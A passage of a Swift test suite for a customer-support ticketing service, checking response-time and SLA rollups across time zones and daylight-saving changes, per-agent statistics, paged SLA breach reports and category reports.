                                \(Double(600 + index * 300 + wait * 1_800)), \(Double(300 + index * 60 + wait * 900)))
                        """)
                }
                try await app.execute("""
                    INSERT INTO ticket_status_periods (ticket_id, status, entered_at, left_at, business_seconds_since_opened)
                    VALUES (\(ticket), 'solved', \(unescaped: opened) + make_interval(hours => \(30 + index * 11)::int),
                            \(unescaped: opened) + make_interval(hours => \(31 + index * 11)::int), \(Double(3_600 * (index + 1))))
                    """)
            }

            // Each solve judged against the due time in force then (migration 0059); no clock still runs.
            try await app.execute("""
                UPDATE ticket_status_periods s SET resolution_due_at = t.created_at + interval '40 hours'
                FROM tickets t WHERE t.id = s.ticket_id AND s.ticket_id = ANY(\(tickets)) AND s.status = 'solved'
                """)

            // The rollup answers only without a filter it does not keep: a priority every ticket has
            // sends the same request to the facts.
            func rows(_ query: String, _ kind: ReportKind = .responseTimes) async throws -> [String] {
                try await Self.items(app, dashboard, "/v1/reports/\(kind.rawValue)?\(query)").map { row in
                    kind.columns.map { "\(row[$0] ?? "-")" }.joined(separator: " ")
                }
            }
            let queries = [
                "from=2026-10-01&to=2026-10-12", "from=2026-10-02&to=2026-10-09&granularity=hour", "from=2026-09-28&to=2026-10-20&granularity=week&time_zone=UTC",
                "from=2026-10-03&to=2026-10-13&granularity=week", "from=2026-09-01&to=2026-11-30&granularity=month&channel=email",
                "from=2026-10-01&to=2026-10-10&time_zone=Asia/Kolkata", "from=2026-10-01&to=2026-10-10&granularity=hour&time_zone=Asia/Kolkata&channel=sms",
            ]
            func disagreements() async throws -> [String] {
                var found: [String] = []
                for query in queries {
                    for kind in [ReportKind.responseTimes, .sla] {
                        let answered = try await rows(query, kind)
                        let live = try await rows(query + "&priority=normal", kind)
                        if answered != live || answered.isEmpty { found.append("\(kind) \(query): \(Set(answered).symmetricDifference(live).sorted())") }
                    }
                }
                return found
            }
            #expect(try await disagreements() == [])

            try await app.execute("SELECT fold_report_response_periods()")
            #expect(try await app.count("SELECT count(*) FROM report_response_changes") == 0)
            #expect(try await app.count("SELECT count(DISTINCT zone) FROM report_response_periods") == 3, "Tokyo, UTC and Kolkata")
            #expect(try await disagreements() == [])

            // Known answers for 2 October in Tokyo: the first email ticket (opened 17:17 on the 1st, first
            // answer on the 1st) had its next three waits answered that day after 2,400, 4,200 and 6,000
            // seconds and was solved at 23:17, 30 hours after opening; the SMS ticket opened at 22:17 and
            // was first answered after 900 seconds.
            let day = try await rows("from=2026-10-02&to=2026-10-02")
            let known = try await Self.items(app, dashboard, "/v1/reports/response-times?from=2026-10-02&to=2026-10-02")
            func metric(_ name: String) -> [String: Any] { known.first { $0["metric"] as? String == name } ?? [:] }
            #expect(metric("first_response")["count"] as? Int == 1)
            #expect(metric("first_response")["wall_median_seconds"] as? Double == 900)
            #expect(metric("next_response")["count"] as? Int == 3)
            #expect(metric("next_response")["wall_median_seconds"] as? Double == 4_200)
            #expect(metric("next_response")["wall_mean_seconds"] as? Double == 4_200)
            #expect(metric("next_response")["business_median_seconds"] as? Double == 2_100)
            #expect(metric("resolution")["count"] as? Int == 1)
            #expect(metric("resolution")["wall_median_seconds"] as? Double == 108_000)

            // The rollup is what answers: a period's row changed by hand shows, and a rebuild puts it right.
            try await app.execute("""
                UPDATE report_response_periods SET count = 999
                WHERE zone = 'Asia/Tokyo' AND unit = 'day' AND channel = 'all' AND local_start = '2026-10-02' AND metric = 'next_response'
                """)
            #expect(try await rows("from=2026-10-02&to=2026-10-02").contains { $0.hasPrefix("2026-10-02 2026-10-01T15:00:00Z next_response 999 ") })
            try await app.execute("SELECT rebuild_report_response_periods()")
            try await app.execute("SELECT fold_report_response_periods()")
            #expect(try await rows("from=2026-10-02&to=2026-10-02") == day)

            // SLA likewise, except a period holding a clock still running past due: computed live (how
            // late it is grows), until the customer is answered.
            try await app.execute("UPDATE report_sla_periods SET measured = 999 WHERE unit = 'day' AND channel = 'all' AND local_start = '2026-10-05'")
            let waiting = try await app.insertReturningID("""
                INSERT INTO tickets (customer_id, channel, created_at, awaiting_reply_since, first_response_due_at)
                VALUES (\(customer), 'email', '2026-10-05 01:00Z', '2026-10-05 01:00Z', '2026-10-05 02:00Z') RETURNING id
                """)
            let running = try await rows("from=2026-10-05&to=2026-10-05", .sla)
            #expect(!running.contains { $0.contains(" 999 ") }, "\(running)")
            #expect(running.contains { $0.hasPrefix("2026-10-05 2026-10-04T15:00:00Z first_response 2 1 1 0.5 ") }, "one answered in time, one still waiting: \(running)")
            try await app.execute("UPDATE tickets SET awaiting_reply_since = NULL WHERE id = \(waiting)")
            #expect(try await rows("from=2026-10-05&to=2026-10-05", .sla).contains { $0.contains(" 999 ") })
            try await app.execute("SELECT rebuild_report_response_periods()")
            try await app.execute("SELECT fold_report_response_periods()")

            // A late fact, a removed one and a ticket moved to another channel take effect at once (their
            // periods are computed live until folded again), and after the fold too.
            try await app.execute("""
                INSERT INTO ticket_responses (ticket_id, is_first, waited_since, responded_at, wall_seconds, business_seconds)
                VALUES (\(tickets[1]), false, '2026-10-02 01:00Z', '2026-10-02 03:00Z', 7200, 3600)
                """)
            try await app.execute("DELETE FROM ticket_responses WHERE id = (SELECT min(id) FROM ticket_responses WHERE ticket_id = \(tickets[3]))")
            try await app.execute("UPDATE tickets SET channel = 'sms' WHERE id = \(tickets[2])")
            #expect(try await app.count("SELECT count(*) FROM report_response_changes") > 0)
            #expect(try await disagreements() == [])
            let changed = try await rows("from=2026-10-02&to=2026-10-02")
            #expect(changed != day)
            try await app.execute("SELECT fold_report_response_periods()")
            #expect(try await app.count("SELECT count(*) FROM report_response_changes") == 0)
            #expect(try await disagreements() == [])
            #expect(try await rows("from=2026-10-02&to=2026-10-02") == changed)

            // A due time the clocks' own trigger moves (a policy given to a ticket recomputes its
            // resolution due) leaves the solves already judged as they were (migration 0059: each is
            // judged against the due time in force when it happened), though the periods holding
            // them are told and computed live until folded again.
            let policy = try await app.insertReturningID("""
                INSERT INTO sla_policies (name, calendar_id) VALUES ('速達', \(BusinessCalendar.standardID)) RETURNING id
                """)
            try await app.execute("INSERT INTO sla_targets (policy_id, priority, resolution_seconds) VALUES (\(policy), 'normal', 3600)")
            let solvedBefore = try await rows("from=2026-10-02&to=2026-10-02", .sla)
            try await app.execute("UPDATE tickets SET sla_policy_id = \(policy) WHERE id = \(tickets[0])")
            #expect(try await app.count("SELECT count(*) FROM report_response_changes") == 0, "no stopped clock reads the ticket's due time")
            // Open still, its resolution clock now runs past due: a breach from the moment it fell due.
            #expect(try await app.count("SELECT count(*) FROM report_sla_clock_running WHERE ticket_id = \(tickets[0]) AND target = 'resolution'") == 1)
            // Closed without a solve, that clock ends today, a late one (and how late stops growing
            // between two requests); the days asked about below are long past.
            try await app.execute("UPDATE tickets SET status = 'closed' WHERE id = \(tickets[0])")
            #expect(try await app.count("""
                SELECT count(*) FROM report_sla_clock_resolutions WHERE ticket_id = \(tickets[0]) AND NOT met AND ended_at > now() - interval '1 minute'
                """) == 1)
            #expect(try await disagreements() == [])
            #expect(try await rows("from=2026-10-02&to=2026-10-02", .sla) == solvedBefore)
            try await app.execute("SELECT fold_report_response_periods()")
            #expect(try await disagreements() == [])

            // A zone no calendar uses any more is forgotten; its reports are computed from the facts.
            try await app.execute("DELETE FROM business_calendars WHERE name = 'Kolkata'")
            try await app.execute("SELECT fold_report_response_periods()")
            #expect(try await app.count("SELECT count(*) FROM report_response_periods WHERE zone = 'Asia/Kolkata'") == 0)
            #expect(try await disagreements() == [])
        }
    }

    @Test("the response-time and SLA rollups cut a period that begins at a repeated local time at its first instant, as the reports do: a first answer at 01:30 EDT on the night the clocks go back is counted; migration 0104 recomputes periods stored the old way")
    func rollupAcrossRepeatedHour() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let customer = try await app.customer()
            try await app.execute("INSERT INTO business_calendars (name, time_zone) VALUES ('New York', 'America/New_York')")
            let ticket = try await Self.arrival(app, customer, at: "'2026-11-01 05:00Z'", channel: "email")
            try await app.execute("""
                INSERT INTO ticket_responses (ticket_id, is_first, waited_since, responded_at, due_at, wall_seconds, business_seconds)
                VALUES (\(ticket), true, '2026-11-01 05:00Z', '2026-11-01 05:30Z', '2026-11-01 06:00Z', 1800, 900)
                """)
            func rows(_ query: String, _ kind: ReportKind) async throws -> [String] {
                try await Self.items(app, dashboard, "/v1/reports/\(kind.rawValue)?\(query)").map { row in
                    kind.columns.map { "\(row[$0] ?? "-")" }.joined(separator: " ")
                }
            }
            func check(_ moment: String) async throws {
                for query in ["from=2026-11-01&to=2026-11-01&granularity=hour&time_zone=America/New_York",
                              "from=2026-10-31&to=2026-11-02&time_zone=America/New_York"] {
                    for kind in [ReportKind.responseTimes, .sla] {
                        let answered = try await rows(query, kind)
                        #expect(answered == (try await rows(query + "&priority=normal", kind)), "\(moment): \(kind) \(query)")
                    }
                }
                let hours = try await rows("from=2026-11-01&to=2026-11-01&granularity=hour&time_zone=America/New_York", .responseTimes)
                #expect(hours.contains { $0.hasPrefix("2026-11-01 01:00 2026-11-01T05:00:00Z first_response 1 ") }, "\(moment): \(hours)")
            }
            try await app.execute("SELECT fold_report_response_periods()")
            #expect(try await app.count("SELECT count(*) FROM report_response_periods WHERE zone = 'America/New_York' AND unit = 'hour'") > 0)
            try await check("folded")

            // Stored as the fold did before 0104 (the later instant): the migration removes the period
            // and leaves its instant as a change; the next fold computes it again. Run twice, as a
            // migration may be.
            try await app.execute("""
                UPDATE report_response_periods SET starts = local_start AT TIME ZONE zone, count = 0
                WHERE zone = 'America/New_York' AND unit = 'hour' AND local_start = '2026-11-01 01:00'
                """)
            for _ in 1...2 { try await app.rerunMigration("0104_rollup_periods_from_first_instant.sql") }
            // (The rollup worker may fold the changes at once: what it leaves is read, not the queue.)
            #expect(try await app.count("""
                SELECT count(*) FROM report_response_periods WHERE starts <> first_instant(local_start, zone) OR count = 0 AND metric = 'first_response'
                  AND zone = 'America/New_York' AND unit = 'hour' AND local_start = '2026-11-01 01:00' AND channel = 'all'
                """) == 0)
            try await check("migrated")
            try await app.execute("SELECT fold_report_response_periods()")
            try await check("folded again")
        }
    }

    /// Yesterday to tomorrow in Tokyo: a range that holds "now" whenever the test runs.
    static var aroundToday: String {
        var calendar = Calendar(identifier: .gregorian)
        calendar.timeZone = TimeZone(identifier: "Asia/Tokyo")!
        func day(_ offset: Int) -> String {
            let date = calendar.date(byAdding: .day, value: offset, to: Date())!
            let parts = calendar.dateComponents([.year, .month, .day], from: date)
            return String(format: "%04d-%02d-%02d", parts.year!, parts.month!, parts.day!)
        }
        return "from=\(day(-1))&to=\(day(1))"
    }

    @Test("agents: replies, notes, first responses, solved and reopened tickets and approval returns, per agent")
    func agents() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let conversation = try await DeliveryTests.customerWrites(app, from: "hanako@example.jp")
            let agentID = try #require(try await app.request(.get, "/v1/me", key: conversation.agent).json["agent_id"] as? String)
            let note = try await app.request(.post, "/v1/tickets/\(conversation.ticket)/notes", key: conversation.agent, json: #"{"body":"在庫確認中"}"#)
            #expect(note.status == .created)
            let timeline = try await app.request(.get, "/v1/tickets/\(conversation.ticket)/messages", key: conversation.agent).json["items"] as? [[String: Any]]
            let seen = DeliveryTests.Conversation(app: app, agent: conversation.agent, supervisor: conversation.supervisor, ticket: conversation.ticket,
                                                  lastMessage: try #require(timeline?.last?["id"] as? String), customerMessageID: conversation.customerMessageID)
            _ = try await DeliveryTests.answer(seen, "確認いたします。")
            let ticket = try await AwaitingReplyTests.ticket(app, conversation.ticket, key: conversation.agent)
            let solved = try await app.request(.patch, "/v1/tickets/\(conversation.ticket)", key: conversation.agent,
                                               headers: [.ifMatch: "\"\(try #require(ticket["version"] as? Int))\""], json: #"{"status":"solved"}"#)
            #expect(solved.status == .ok, "\(solved.text)")
            let gateway = try await app.keySecret(.gateway)
            let again = try await app.postMail(gateway, testMail(from: "hanako@example.jp", subject: "Re: 注文について", id: "again-2@example.jp",
                                                                 headers: "In-Reply-To: <\(conversation.customerMessageID)>\n"))
            #expect(try again.json["ticket_status"] as? String == "open", "\(again.text)")

            // A novice's reply, returned by a supervisor.
            let novice = try await app.key(.agent, name: "新人")
            try await app.execute("UPDATE agents SET requires_approval = true WHERE id = \(novice.record.agentID)")
            let other = try await app.ticket(customer: try await app.customer(email: "b@example.jp"))
            #expect(try await app.request(.post, "/v1/tickets/\(other)/claim", key: novice.secret).status == .ok)
            let draft = try await app.request(.post, "/v1/tickets/\(other)/replies", key: novice.secret, json: #"{"body":"ご連絡です。"}"#)
            let reply = try #require(try draft.json["id"] as? String)
            #expect(try await app.request(.post, "/v1/replies/\(reply)/submit", key: novice.secret, json: "{}").status == .ok)
            let returned = try await app.request(.post, "/v1/replies/\(reply)/return", key: conversation.supervisor, json: #"{"comment":"敬語を直して"}"#)
            #expect(returned.status == .ok, "\(returned.text)")

            let rows = try await Self.items(app, dashboard, "/v1/reports/agents?\(Self.aroundToday)")
            let mine = try #require(rows.first { $0["agent_id"] as? String == agentID }, "\(rows)")
            #expect(mine["tickets_handled"] as? Int == 1)
            #expect(mine["replies_sent"] as? Int == 1)
            #expect(mine["notes"] as? Int == 1)
            #expect(mine["first_responses"] as? Int == 1)
            #expect(mine["first_response_median_wall_seconds"] as? Double != nil)
            #expect(mine["solved"] as? Int == 1)
            #expect(mine["reopened"] as? Int == 1)
            #expect(mine["reopen_rate"] as? Double == 1)
            let theirs = try #require(rows.first { $0["agent_id"] as? String == novice.record.agentID?.uuidString.lowercased() })
            #expect(theirs["approval_returns"] as? Int == 1)
            #expect(theirs["replies_sent"] as? Int == 0)
            #expect(!rows.contains { $0["agent_id"] as? String == AutomaticReply.agentID.uuidString.lowercased() })
            let only = try await Self.items(app, dashboard, "/v1/reports/agents?\(Self.aroundToday)&agent_id=\(agentID)")
            #expect(only.count == 1)

            // The return's event removed by retention: the return still counts (read from its note).
            try await app.database.withTransaction { connection in
                try await connection.perform("SET LOCAL madoguchi.retention = 'on'", logger: TestCluster.logger)
                try await connection.perform("DELETE FROM events WHERE type = 'reply.returned'", logger: TestCluster.logger)
            }
            let later = try await Self.items(app, dashboard, "/v1/reports/agents?\(Self.aroundToday)")
            #expect(later.first { $0["agent_id"] as? String == novice.record.agentID?.uuidString.lowercased() }?["approval_returns"] as? Int == 1)
        }
    }

    @Test("agents: the note a merge leaves is no note of the merging agent's, nor a ticket they handled")
    func mergeNoteIsNoWork() async throws {
        try await TestApp.run { app in
            let customer = try await app.customer(email: "dup@example.jp")
            let (first, second) = (try await app.ticket(customer: customer), try await app.ticket(customer: customer, subject: "同じ件"))
            let agent = try await app.key(.agent, name: "統合係")
            let merged = try await app.request(.post, "/v1/tickets/\(second)/merge", key: agent.secret, json: #"{"into_ticket_id":"\#(first)"}"#)
            #expect(merged.status == .ok, "\(merged.text)")
            #expect(try await app.count("SELECT count(*) FROM messages WHERE direction = 'internal'") == 1, "the merge's note is there")
            let rows = try await Self.items(app, try await app.keySecret(.dashboard), "/v1/reports/agents?\(Self.aroundToday)")
            let theirs = try #require(rows.first { $0["agent_id"] as? String == agent.record.agentID?.uuidString.lowercased() }, "\(rows)")
            #expect(theirs["notes"] as? Int == 0, "\(theirs)")
            #expect(theirs["tickets_handled"] as? Int == 0)
        }
    }

    @Test("agents: a reopening counts against the solve it undid, so the reopen rate of a range is at most 1")
    func reopenRate() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let agent = try #require(try await app.key(.agent, name: "再開").record.agentID)
            let customer = try await app.customer()
            func ticket(_ statuses: [String]) async throws -> UUID {
                let id = try await app.ticket(customer: customer, status: "open", assignee: agent)
                for status in statuses { try await app.execute("UPDATE tickets SET status = \(status) WHERE id = \(id)") }
                return id
            }
            // Solved ten days ago and reopened today (their first solves moved back by hand); the
            // first is solved again today and stays solved.
            let again = try await ticket(["solved", "open", "solved"])
            let reopened = try await ticket(["solved", "open"])
            try await app.execute("""
                UPDATE ticket_status_periods s SET entered_at = now() - interval '10 days'
                WHERE s.ticket_id IN (\(again), \(reopened)) AND s.status = 'solved'
                  AND s.entered_at = (SELECT min(f.entered_at) FROM ticket_status_periods f WHERE f.ticket_id = s.ticket_id AND f.status = 'solved')
                """)
            // Solved today and reopened today, twice.
            _ = try await ticket(["solved", "open", "solved", "open"])

            let rows = try await Self.items(app, dashboard, "/v1/reports/agents?\(Self.aroundToday)&agent_id=\(agent)")
            let row = try #require(rows.first, "\(rows)")
            // Counted as events, by the reopening's time, this was solved 3, reopened 4: a rate of 1.33.
            #expect(row["solved"] as? Int == 2)
            #expect(row["reopened"] as? Int == 1)
            #expect(row["reopen_rate"] as? Double == 0.5)
        }
    }

    @Test("SLA: attainment per target, a clock still running past due counts as breached, and every breach is listed with how late")
    func sla() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let customer = try await app.customer()
            let answered = try await Self.arrival(app, customer, at: "now() - interval '3 hours'")
            for (late, first) in [(-600, true), (600, false)] {
                try await app.execute("""
                    INSERT INTO ticket_responses (ticket_id, is_first, waited_since, responded_at, due_at, wall_seconds)
                    VALUES (\(answered), \(first), now() - interval '2 hours', now() - interval '1 hour',
                            now() - interval '1 hour' - make_interval(secs => \(late)), 3600)
                    """)
            }
            let waiting = try await app.insertReturningID("""
                INSERT INTO tickets (customer_id, channel, awaiting_reply_since, first_response_due_at)
                VALUES (\(customer), 'sms', now() - interval '2 hours', now() - interval '30 minutes') RETURNING id
                """)
            let rows = try await Self.items(app, dashboard, "/v1/reports/sla?\(Self.aroundToday)&granularity=month")
            func total(_ target: String, _ field: String) -> Int {
                rows.filter { $0["target"] as? String == target }.map { $0[field] as? Int ?? 0 }.reduce(0, +)
            }
            #expect(total("first_response", "measured") == 2)
            #expect(total("first_response", "met") == 1)
            #expect(total("first_response", "breached") == 1, "the one still waiting")
            #expect(total("next_response", "breached") == 1)
            #expect(rows.contains { $0["target"] as? String == "first_response" && $0["attainment"] as? Double == 0.5 })

            let breaches = try await Self.items(app, dashboard, "/v1/reports/sla-breaches?\(Self.aroundToday)")
            #expect(breaches.count == 2)
            let late = try #require(breaches.first { $0["target"] as? String == "next_response" })
            #expect(late["overdue_seconds"] as? Double == 600)
            #expect(late["ended_at"] != nil)
            let running = try #require(breaches.first { $0["ticket_id"] as? String == waiting.uuidString.lowercased() })
            #expect(running["ended_at"] == nil)
            #expect((running["overdue_seconds"] as? Double ?? 0) >= 1800)
            let csv = try await app.request(.get, "/v1/reports/sla-breaches?\(Self.aroundToday)&format=csv", key: dashboard)
            #expect(csv.text.components(separatedBy: "\r\n").filter { !$0.isEmpty }.count == 3)

            // A page at a time: `truncated`, `next_cursor` and the Link header lead to the next page.
            let first = try await app.request(.get, "/v1/reports/sla-breaches?\(Self.aroundToday)&limit=1", key: dashboard)
            #expect(try first.json["truncated"] as? Bool == true)
            let cursor = try #require(try first.json["next_cursor"] as? String)
            #expect(first.headers[.link]?.contains("cursor=\(cursor)") == true, "\(first.headers)")
            let second = try await app.request(.get, "/v1/reports/sla-breaches?\(Self.aroundToday)&limit=1&cursor=\(cursor)", key: dashboard)
            #expect(try second.json["truncated"] as? Bool == false)
            #expect(try second.json["next_cursor"] == nil)
            #expect(second.headers[.link] == nil)
            let paged = [try first.json["items"], try second.json["items"]].compactMap { $0 as? [[String: Any]] }.flatMap { $0 }
            #expect(paged.map { $0["ticket_id"] as? String } == breaches.map { $0["ticket_id"] as? String })
            #expect(paged.map { $0["target"] as? String } == breaches.map { $0["target"] as? String })
            for bad in ["limit=0", "limit=10001", "cursor=bm90LWEtY3Vyc29y", "cursor=\(PageCursor.encode(["1", "2", "closed"]))"] {
                let refused = try await app.request(.get, "/v1/reports/sla-breaches?\(Self.aroundToday)&\(bad)", key: dashboard)
                #expect(refused.status == .badRequest, "\(bad): \(refused.text)")
            }

            // Havana repeats its midnight hour on 1 November 2026 (01:00 CDT back to 00:00 CST): a
            // breach at 00:30 CDT (04:30Z) is on the 1st for the JSON pages as for the CSV, which
            // read the day's start as the first midnight.
            let havana = try await app.insertReturningID("""
                INSERT INTO tickets (customer_id, channel, awaiting_reply_since, first_response_due_at)
                VALUES (\(customer), 'chat', '2026-11-01 03:00Z', '2026-11-01 04:30Z') RETURNING id
                """)
            for (day, holds) in [("2026-11-01", true), ("2026-10-31", false)] {
                let range = "from=\(day)&to=\(day)&time_zone=America/Havana"
                let page = try await Self.items(app, dashboard, "/v1/reports/sla-breaches?\(range)")
                #expect(page.contains { $0["ticket_id"] as? String == havana.uuidString.lowercased() } == holds, "\(day): \(page)")
                let lines = try await app.request(.get, "/v1/reports/sla-breaches?\(range)&format=csv", key: dashboard).text
                #expect(lines.contains(havana.uuidString.lowercased()) == holds, "\(day): \(lines)")
            }
            try await app.execute("UPDATE tickets SET first_response_due_at = NULL, awaiting_reply_since = NULL WHERE id = \(havana)")

            // Waiting on the customer (pending) stops a clock where it was: a response that fell due
            // during the pause is not late, and one already late stays as late as it was when it paused.
            try await app.execute("UPDATE tickets SET status = 'pending', sla_paused_at = now() - interval '40 minutes' WHERE id = \(waiting)")
            let lateThenPaused = try await app.insertReturningID("""
                INSERT INTO tickets (customer_id, channel, status, awaiting_reply_since, first_response_due_at, sla_paused_at)
                VALUES (\(customer), 'sms', 'pending', now() - interval '2 hours', now() - interval '30 minutes', now() - interval '10 minutes')
                RETURNING id
                """)
            let whilePaused = try await Self.items(app, dashboard, "/v1/reports/sla-breaches?\(Self.aroundToday)")
            #expect(!whilePaused.contains { $0["ticket_id"] as? String == waiting.uuidString.lowercased() }, "fell due while paused: \(whilePaused)")
            let frozen = try #require(whilePaused.first { $0["ticket_id"] as? String == lateThenPaused.uuidString.lowercased() })
            #expect(frozen["overdue_seconds"] as? Double == 1200)
            let pausedRows = try await Self.items(app, dashboard, "/v1/reports/sla?\(Self.aroundToday)&granularity=month&channel=sms")
            #expect(pausedRows.filter { $0["target"] as? String == "first_response" }.map { $0["breached"] as? Int ?? 0 }.reduce(0, +) == 1)
        }
    }

    @Test("SLA breaches: pages read through their cursors are the full report in its order, for each filter, ties and every kind of clock included")
    func breachPage() async throws {
        try await TestApp.run { app in
            let customer = try await app.customer()
            let agent = try #require(try await app.key(.agent, name: "担当").record.agentID)
            let email = try await Self.arrival(app, customer, at: "now() - interval '5 hours'", tags: ["至急"], priority: "high")
            let sms = try await Self.arrival(app, customer, at: "now() - interval '5 hours'", channel: "sms")
            try await app.execute("UPDATE tickets SET assignee_id = \(agent) WHERE id = \(email)")
            // Two tickets breached at the same instant (the order falls to the ticket number), a next
            // response, and a response in time, which is no breach.
            try await app.execute("""
                INSERT INTO ticket_responses (ticket_id, agent_id, is_first, waited_since, responded_at, due_at, wall_seconds)
                SELECT ticket, \(agent), first, now() - interval '4 hours', now() - interval '3 hours' + make_interval(secs => CASE WHEN first THEN 0 ELSE 1 END),
                       now() - interval '3 hours' - make_interval(secs => late), 3600
                FROM (VALUES (\(email), true, 600), (\(sms), true, 60), (\(email), false, 30), (\(sms), false, -30)) AS r(ticket, first, late)
                """)
            // A resolution after its due time, and a customer still waiting past due.
            try await app.execute("UPDATE tickets SET resolution_due_at = now() - interval '1 hour' WHERE id = \(sms)")
            try await app.execute("UPDATE tickets SET status = 'solved' WHERE id = \(sms)")
            try await app.execute("""
                INSERT INTO tickets (customer_id, channel, awaiting_reply_since, first_response_due_at, tags, assignee_id)
                VALUES (\(customer), 'chat', now() - interval '2 hours', now() - interval '30 minutes', '{至急}', \(agent))
                """)

            let store = ReportStore(database: app.database, gate: ReportGate(concurrency: 1, wait: .seconds(5)), timeout: .seconds(60),
                                    logger: TestCluster.logger)
            let range = Self.aroundToday.split(separator: "&").map { $0.split(separator: "=")[1] }
            // How late a running clock is grows by the second: compared without it.
            func comparable(_ rows: [[ReportCell]]) -> [[ReportCell]] {
                rows.map { row in row[4] == .null ? row.enumerated().map { $0.offset == 5 ? .null : $0.element } : row }
            }
            let filters: [ReportRequest.Filters] = [.init(), .init(channel: .sms), .init(tag: "至急"), .init(agentID: agent), .init(priority: .high),
                                                    .init(queue: "general", category: "なし")]
            // All; the SMS ticket's first response and resolution; the tagged ticket's two responses and
            // the waiting customer; the agent's three responses and the waiting customer; the high one's
            // two; none.
            let expected = [5, 2, 3, 4, 2, 0]
            for (index, filter) in filters.enumerated() {
                let request = try ReportRequest(from: String(range[0]), to: String(range[1]), granularity: nil, timeZone: nil, filters: filter)
                let full = comparable(try await store.rows(.slaBreaches, request))
                #expect(full.count == expected[index], "\(filter): \(full)")
                for limit in 1...full.count + 1 {
                    // Page after page from the cursors: the full report, each row once.
                    var read: [[ReportCell]] = []
                    var after: BreachPage.Cursor?
                    for _ in 0...full.count {
                        let rows = try await store.breaches(request, BreachPage(limit: limit, after: after))
                        read += comparable(rows.prefix(limit).map { Array($0.prefix(9)) })
                        guard rows.count > limit else { break }
                        after = try BreachPage.Cursor(BreachPage.cursor(after: rows[limit - 1]).text)
                    }
                    #expect(read == full, "\(filter), \(limit) a page")
                }
            }
        }
    }

    @Test("categories: tickets under their category and each tag, with customer messages and the median first response")
    func categories() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let customer = try await app.customer()
            for (category, tags, seconds) in [("返品", ["至急"], 60.0), ("返品", [], 180.0), (nil, ["至急", "VIP"], 600.0)] as [(String?, [String], Double)] {
                let ticket = try await Self.arrival(app, customer, at: "now() - interval '1 hour'", tags: tags)
                try await app.execute("UPDATE tickets SET category = \(category) WHERE id = \(ticket)")
                try await app.execute("""
                    INSERT INTO ticket_responses (ticket_id, is_first, waited_since, responded_at, wall_seconds, business_seconds)
                    VALUES (\(ticket), true, now() - interval '1 hour', now(), \(seconds), \(seconds))
                    """)
            }
            let rows = try await Self.items(app, dashboard, "/v1/reports/categories?\(Self.aroundToday)")
            func row(_ dimension: String, _ value: String) -> [String: Any]? {
                rows.first { $0["dimension"] as? String == dimension && $0["value"] as? String == value }
            }
            #expect(row("category", "返品")?["tickets"] as? Int == 2)
            #expect(row("category", "返品")?["inbound_messages"] as? Int == 2)
            #expect(row("category", "返品")?["first_response_median_wall_seconds"] as? Double == 120)
            #expect(row("category", "(none)")?["tickets"] as? Int == 1)
            #expect(row("tag", "至急")?["tickets"] as? Int == 2)
            #expect(row("tag", "至急")?["first_response_median_business_seconds"] as? Double == 330)
            #expect(row("tag", "VIP")?["tickets"] as? Int == 1)
            #expect(rows.filter { $0["dimension"] as? String == "category" }.map { $0["value"] as? String } == ["返品", "(none)"])

            // The (none) row's filter reaches the tickets without a category, here and in the other reports;
            // no ticket can be given (none) as its category.
            let none = try await Self.items(app, dashboard, "/v1/reports/categories?\(Self.aroundToday)&category=(none)")
            #expect(none.first { $0["dimension"] as? String == "category" }?["value"] as? String == "(none)")
            #expect(none.first { $0["dimension"] as? String == "category" }?["tickets"] as? Int == 1)
            #expect(none.first { $0["value"] as? String == "VIP" }?["tickets"] as? Int == 1)
            let volume = try await Self.items(app, dashboard, "/v1/reports/volume?\(Self.aroundToday)&granularity=month&category=(none)")
            #expect(volume.reduce(0) { $0 + ($1["new_tickets"] as? Int ?? 0) } == 1, "\(volume)")
            let ticket = try await app.insertReturningID("SELECT id FROM tickets WHERE category IS NULL")
            let supervisor = try await app.keySecret(.supervisor)
            try expectProblem(try await app.request(.patch, "/v1/tickets/\(ticket.uuidString.lowercased())", key: supervisor, headers: [.ifMatch: "*"],
                                                    json: #"{"category":"(none)"}"#), .unprocessableContent, "validation-failed")
        }
    }

    @Test("categories: a range holding a fifth of the tickets or more reads the view aggregated over all tickets, a shorter one reads ticket by ticket; both views give the same rows")
    func categoriesBothWays() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let customer = try await app.customer()
            // Thirty tickets over thirty days: categories, tags, customer messages, first responses
            // (and a later, second response), solved ones and one reopened and solved again.
            for day in 0..<30 {
                let at = "now() - interval '\(day) days' - interval '1 hour'"
                let ticket = try await Self.arrival(app, customer, at: at, tags: day % 3 == 0 ? ["至急", "VIP"] : day % 3 == 1 ? ["VIP"] : [])
                try await app.execute("UPDATE tickets SET category = \(day % 2 == 0 ? "返品" : nil as String?) WHERE id = \(ticket)")
                for extra in 0..<(day % 4) { try await Self.message(app, ticket, customer, at: "\(at) + interval '\(extra + 1) minutes'") }
                // Not the customer's: an auto-reply and a bounce count as no message of theirs.
                if day % 3 == 2 {
                    try await Self.message(app, ticket, customer, at: "\(at) + interval '9 minutes'", classification: "auto_reply")
                    try await Self.message(app, ticket, customer, at: "\(at) + interval '10 minutes'", classification: "bounce")
                }
                if day % 5 != 4 {
                    try await app.execute("""
                        INSERT INTO ticket_responses (ticket_id, is_first, waited_since, responded_at, wall_seconds, business_seconds)
                        VALUES (\(ticket), true, \(unescaped: at), \(unescaped: at) + make_interval(secs => \(60 * (day + 1))), \(Double(60 * (day + 1))), \(Double(30 * (day + 1)))),
                               (\(ticket), false, \(unescaped: at), \(unescaped: at) + interval '5 hours', 18000, 9000)
                        """)
                }
                if day % 2 == 1 { try await app.execute("UPDATE tickets SET status = 'solved' WHERE id = \(ticket)") }
                if day == 3 {
                    try await app.execute("UPDATE tickets SET status = 'open' WHERE id = \(ticket)")
                    try await app.execute("UPDATE tickets SET status = 'solved' WHERE id = \(ticket)")
                }
            }
            try await app.execute("ANALYZE tickets")

            // The two views, row for row, over ranges that hold none, some and all of the tickets.
            func rows(_ view: String, since: String, until: String, tag: String?) async throws -> [String] {
                try await app.database.withConnection { connection in
                    var rows: [String] = []
                    for try await row in try await connection.query("""
                        SELECT concat_ws('|', x.dimension, x.value, x.id, x.at, x.inbound_messages, x.first_response_business_seconds,
                                         x.first_response_wall_seconds, round(x.resolution_wall_seconds::numeric, 3))
